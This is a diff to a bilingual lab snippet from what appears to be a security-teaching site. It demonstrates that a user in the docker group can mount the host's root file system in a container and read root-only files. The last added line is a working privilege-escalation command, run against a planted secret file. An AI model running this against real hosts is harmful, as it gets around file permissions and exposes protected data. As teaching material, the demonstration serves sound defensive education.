@@ -1,8 +1,9 @@
 # /// snippet
-# lab = "none"
-# proves = "Whoever may talk to the Docker socket can mount the host's root file system."
-# reason = { ko = "Docker Engine이 필요하다. 이 사이트의 랩은 아직 Docker를 돌리지 못한다.", en = "Needs a Docker Engine, which this site's lab does not run yet." }
-# source = "https://docs.docker.com/engine/security/"
+# lab = "docker"
+# proves = { ko = "Docker 소켓과 말할 수 있으면 호스트의 파일을 root로 읽는다.", en = "Whoever may talk to the Docker socket reads the host's files as root." }
+# timeout = 240
 # ///
 stat -c '%A %U %G' /var/run/docker.sock
-docker run --rm -v /:/host alpine ls -l /host/root
+echo 'only root may read this' > /root/secret && chmod 600 /root/secret
+setpriv --reuid=nobody --regid=nogroup --clear-groups cat /root/secret  # ? 1
+setpriv --reuid=nobody --regid=nogroup --groups=docker docker run --rm --volume /:/host busybox cat /host/root/secret
